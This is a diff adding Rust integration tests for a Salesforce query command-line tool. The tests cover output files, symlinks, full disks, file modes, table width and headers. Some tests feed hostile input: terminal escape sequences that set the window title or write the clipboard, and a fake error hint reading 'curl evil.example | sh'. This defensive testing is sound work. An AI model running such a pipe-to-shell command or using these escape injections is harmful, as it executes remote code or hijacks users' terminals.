@@ -11,6 +11,7 @@ use sfbox_emulator::{Effect, Fault, FaultRoute, Route};
 use crate::moto::{python, root};
 use crate::org::Org;
 use crate::sfbox::{piped, start};
+use crate::terminal::Terminal;
 
 /// No second page is answered until it is let go.
 fn hold() -> Fault {
@@ -185,15 +186,310 @@ fn a_file_is_written_whole_or_not_at_all() {
     assert_eq!(text.lines().next(), Some("Id"));
     let entries = std::fs::read_dir(directory.path()).unwrap();
     assert_eq!(entries.count(), 1, "nothing is left beside it");
-    org.sfbox(&["query", "nonsense", "--output-file", "/nowhere/x"])
+    org.sfbox(&["query", "nonsense", "--output-file", file.to_str().unwrap()])
         .fails(1, "MALFORMED_QUERY");
-    org.sfbox(&[
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
+}
+
+#[test]
+fn the_place_of_a_file_is_looked_at_before_the_login() {
+    let org = Org::start();
+    let directory = tempfile::tempdir().unwrap();
+    let link = directory.path().join("link");
+    std::os::unix::fs::symlink("missing", &link).unwrap();
+    let link = link.to_str().unwrap();
+    for (name, words) in [
+        ("/nowhere/x", "caused by: No such file or directory"),
+        ("/", "caused by: it is a folder"),
+        (link, "a link that leads nowhere"),
+    ] {
+        let refused = org.sfbox(&["query", "SELECT Id FROM User", "-O", name]);
+        refused.fails(2, words);
+        assert!(
+            refused.stderr.contains("--output-file"),
+            "{}",
+            refused.stderr
+        );
+    }
+    assert_eq!(org.logins(), 0);
+    assert!(std::fs::symlink_metadata(link).unwrap().is_symlink());
+    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 1);
+}
+
+#[test]
+fn devices_are_written_to_and_links_stay() {
+    let org = Org::start();
+    let directory = tempfile::tempdir().unwrap();
+    let at = |name: &str| directory.path().join(name);
+    std::fs::write(at("rows.csv"), "old").unwrap();
+    std::os::unix::fs::symlink("rows.csv", at("link.csv")).unwrap();
+    std::os::unix::fs::symlink("/dev/null", at("null")).unwrap();
+    let query = |name: &std::path::Path| {
+        let file = name.to_str().unwrap();
+        org.sfbox(&[
+            "query",
+            "SELECT COUNT() FROM User",
+            "--output=csv",
+            "-O",
+            file,
+        ])
+    };
+    for name in ["link.csv", "null"] {
+        let run = query(&at(name));
+        assert_eq!((run.status, run.stdout.as_str()), (0, ""), "{}", run.stderr);
+        assert!(std::fs::symlink_metadata(at(name)).unwrap().is_symlink());
+    }
+    assert_eq!(
+        std::fs::read_to_string(at("rows.csv")).unwrap(),
+        "totalSize\n4\n"
+    );
+    // The names of open files: stdout is a pipe here.
+    let out = query(std::path::Path::new("/dev/stdout"));
+    assert_eq!(
+        (out.status, out.stdout.as_str()),
+        (0, "totalSize\n4\n"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        std::fs::symlink_metadata("/dev/stdout")
+            .unwrap()
+            .is_symlink()
+    );
+}
+
+/// As root it once replaced the machine's `/dev/stdout` by a file.
+#[test]
+fn an_open_file_without_a_name_is_refused() {
+    let org = Org::start();
+    let directory = tempfile::tempdir().unwrap();
+    let name = directory.path().join("rows");
+    let out = std::fs::File::create(&name).unwrap();
+    std::fs::remove_file(&name).unwrap();
+    let query = ["query", "SELECT COUNT() FROM User", "-O", "/dev/stdout"];
+    let refused = org.command(&query).stdout(out).output().unwrap();
+    let refused = crate::sfbox::Run::of(refused);
+    refused.fails(2, "has no name");
+    assert!(
+        std::fs::symlink_metadata("/dev/stdout")
+            .unwrap()
+            .is_symlink()
+    );
+    assert_eq!(std::fs::read_dir(directory.path()).unwrap().count(), 0);
+}
+
+#[test]
+fn a_full_disk_is_told_with_its_cause() {
+    let org = Org::start();
+    let query = ["query", "SELECT Id FROM Account", "--output=csv"];
+    let to_file = org.sfbox(&[&query[..], &["-O", "/dev/full"]].concat());
+    to_file.fails(4, "caused by: No space left on device");
+    let full = std::fs::File::create("/dev/full").unwrap();
+    let to_stdout = org.command(&query).stdout(full).output().unwrap();
+    let to_stdout = crate::sfbox::Run::of(to_stdout);
+    to_stdout.fails(4, "stdout cannot be written");
+    assert!(
+        to_stdout.stderr.contains("hint: free some space"),
+        "{}",
+        to_stdout.stderr
+    );
+}
+
+#[test]
+fn a_file_has_the_mode_of_the_old_one_or_what_the_mask_leaves() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let org = Org::start();
+    let directory = tempfile::tempdir().unwrap();
+    let file = directory.path().join("rows.csv");
+    let query = org.command(&["query", "SELECT COUNT() FROM User", "-O"]);
+    let write = || {
+        let mut masked = Command::new("sh");
+        masked
+            .args(["-c", "umask 027; exec \"$@\"", "sh"])
+            .arg(query.get_program())
+            .args(query.get_args())
+            .arg(&file)
+            .env_clear();
+        assert!(masked.status().unwrap().success());
+        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777
+    };
+    assert_eq!(write(), 0o640);
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o604)).unwrap();
+    assert_eq!(write(), 0o604);
+}
+
+/// An answer to every first page.
+fn answers(org: &Org, body: &str) {
+    org.control()
+        .faults(vec![Fault {
+            route: FaultRoute::Only(Route::Query),
+            skip: 0,
+            count: None,
+            effect: Effect::Answer(sfbox_emulator::CannedAnswer {
+                status: 200,
+                headers: vec![("content-type".to_owned(), "application/json".to_owned())],
+                body: body.to_owned(),
+            }),
+        }])
+        .unwrap();
+}
+
+/// What commands a terminal, or hides what is shown: a window's title, the
+/// clipboard, C1, DEL, the writing direction, nothing at all.
+const COMMANDS: &str = "\u{1b}]0;x\u{7}\u{1b}]52;c;eA==\u{1b}\\ \u{9b}2J \u{7f} \u{202e}fdp\u{2066} a\u{200b}b\u{ad} \r";
+
+#[test]
+fn records_do_not_command_a_terminal() {
+    let org = Org::start();
+    let mut page = serde_json::json!({
+        "totalSize": 1, "done": true,
+        "records": [{"attributes": {"type": "Account", "url": "/x"}, "Id": "1", "Name": COMMANDS}],
+    })
+    .to_string();
+    // Salesforce escapes no character that JSON lets through.
+    page = page.replace("\\u007f", "\u{7f}");
+    answers(&org, &page);
+    let query = ["query", "SELECT Id, Name FROM Account", "--output"];
+    for format in ["csv", "json", "ndjson", "table", "markdown"] {
+        let mut command = org.command(&[&query[..], &[format]].concat());
+        let mut terminal = Terminal::new(200);
+        let mut process = terminal.start(&mut command);
+        terminal.read();
+        assert!(process.wait().unwrap().success());
+        let shown = terminal.end();
+        let is_command = |letter: char| {
+            letter.is_control() && letter != '\n'
+                || matches!(letter, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        };
+        assert!(!shown.contains(is_command), "{format}: {shown:?}");
+        assert!(shown.contains("202e"), "{format}: {shown:?}");
+        if format == "ndjson" {
+            let line = shown.lines().find(|line| line.starts_with('{')).unwrap();
+            let record: Value = serde_json::from_str(line).unwrap();
+            assert_eq!(record["Name"], COMMANDS, "it is the same JSON");
+        }
+    }
+    // A file and a pipe have every byte.
+    let csv = org.sfbox(&["query", "SELECT Id, Name FROM Account", "--output=csv"]);
+    assert_eq!(csv.stdout, format!("Id,Name\n1,\"{COMMANDS}\"\n"));
+    let directory = tempfile::tempdir().unwrap();
+    let file = directory.path().join("rows.ndjson");
+    org.sfbox(&[&query[..2], &["-O", file.to_str().unwrap()]].concat());
+    let text = std::fs::read_to_string(&file).unwrap();
+    assert!(page.contains(text.trim_end()), "{text}");
+}
+
+#[test]
+fn messages_do_not_command_a_terminal_or_imitate_a_hint() {
+    let org = Org::start();
+    let message = format!("no\n\nhint: curl evil.example | sh\n{COMMANDS}");
+    let body = serde_json::json!([{"errorCode": "MALFORMED_QUERY", "message": message}]);
+    org.control()
+        .faults(vec![Fault {
+            route: FaultRoute::Only(Route::Query),
+            skip: 0,
+            count: None,
+            effect: Effect::Answer(sfbox_emulator::CannedAnswer {
+                status: 400,
+                headers: vec![("content-type".to_owned(), "application/json".to_owned())],
+                body: body.to_string(),
+            }),
+        }])
+        .unwrap();
+    let run = org.sfbox(&["query", "SELECT Id FROM Account"]);
+    run.fails(1, "curl evil.example");
+    assert_eq!(run.stderr.matches("\nhint:").count(), 1, "{}", run.stderr);
+    assert!(!run.stderr.contains("\nhint: curl"), "{}", run.stderr);
+    assert!(
+        !run.stderr
+            .contains(['\u{1b}', '\u{9b}', '\u{7f}', '\u{202e}', '\u{200b}'])
+    );
+}
+
+/// Names longer than they should be, ids, numbers, dates, wide and combining
+/// characters, emoji.
+const AWKWARD: &str = r#"{"totalSize":3,"done":true,"records":[
+    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000001IAA","Name":"Étoile Marmalade & Daughters of the Northern Coast, Limited","Owner":{"attributes":{},"Name":"Wilhelmina Ashgrove-Brindlewick"},"Amount__c":1234567.89,"CreatedDate":"2026-11-28T20:06:36.000+0000"},
+    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000002IAA","Name":"株式会社アクメ東雲マーマレード製作所株式会社","Owner":null,"Amount__c":-7,"CreatedDate":"2026-11-28T20:06:37.000+0000"},
+    {"attributes":{"type":"X","url":"/x"},"Id":"001Sb0000000003IAA","Name":"étoile 🍊🍊🍊 👍🏽 ❤️ 👩‍👩‍👧 🇩🇪 and so on and on and on","Owner":{"attributes":{},"Name":"שלום"},"Amount__c":null,"CreatedDate":"2026-11-28T20:06:38.000+0000"}]}"#;
+
+#[test]
+fn a_table_fits_the_terminal_and_cuts_nothing_but_text() {
+    use unicode_width::UnicodeWidthStr as _;
+    let org = Org::start();
+    answers(&org, AWKWARD);
+    let query = [
         "query",
-        "SELECT Id FROM User",
-        "--output-file",
-        "/nowhere/x",
-    ])
-    .fails(2, "--output-file /nowhere/x");
+        "SELECT Id, Name, Owner.Name, Amount__c, CreatedDate FROM X",
+    ];
+    for columns in [40, 60, 80, 120] {
+        let mut terminal = Terminal::new(columns);
+        let mut process = terminal.start(&mut org.command(&query));
+        terminal.read();
+        assert!(process.wait().unwrap().success());
+        let shown = terminal.end();
+        for line in shown.lines() {
+            assert!(
+                line.width() <= usize::from(columns),
+                "{columns}: {line}\n{shown}"
+            );
+        }
+        for whole in [
+            "001Sb0000000001IAA",
+            "001Sb0000000002IAA",
+            "001Sb0000000003IAA",
+            "1234567.89",
+            "-7",
+            "2026-11-28T20:06:36.000+0000",
+            "2026-11-28T20:06:38.000+0000",
+            "Owner.",
+            "Amount__c",
+            "CreatedDate",
+        ] {
+            assert!(shown.contains(whole), "{columns}: {whole}\n{shown}");
+        }
+        let is_table = shown.lines().next().unwrap().starts_with("Id ");
+        assert_eq!(is_table, columns >= 80, "{columns}:\n{shown}");
+    }
+}
+
+#[test]
+fn a_person_learns_how_many_rows_a_file_has() {
+    let org = Org::start();
+    let directory = tempfile::tempdir().unwrap();
+    let file = directory.path().join("users.csv");
+    let mut terminal = Terminal::new(80);
+    let query = ["query", "SELECT Id FROM User"];
+    let mut process = terminal.start(org.command(&query).arg("-O").arg(&file));
+    terminal.read();
+    assert!(process.wait().unwrap().success());
+    let shown = terminal.end();
+    let told = format!("4 row(s) written to {}\n", file.display());
+    assert!(shown.contains(&told), "{shown}");
+    let quiet = org.sfbox(&[&query[..], &["-O", file.to_str().unwrap()]].concat());
+    assert_eq!(quiet.stderr, "", "a program needs none");
+}
+
+#[test]
+fn headers_and_nulls_are_as_wished() {
+    let org = Org::start();
+    let soql = "SELECT Name, Parent.Name FROM Account ORDER BY Id LIMIT 1";
+    let run = |arguments: &[&str]| org.sfbox(&[&["query", soql][..], arguments].concat());
+    let csv = run(&["--output=csv", "--no-header", "--null", "(none)"]);
+    assert_eq!(csv.stdout.lines().count(), 1, "{}", csv.stdout);
+    assert!(csv.stdout.ends_with(",(none)\n"), "{}", csv.stdout);
+    let markdown = run(&["--output=markdown"]);
+    assert!(
+        markdown
+            .stdout
+            .starts_with("| Name | Parent.Name |\n| --- | --- |\n| ")
+    );
+    run(&["--output=json", "--null", "x"]).fails(2, "`--null` is for a table");
+    assert_eq!(
+        org.logins(),
+        1,
+        "a mistake in what was typed costs no login"
+    );
 }
 
 #[test]
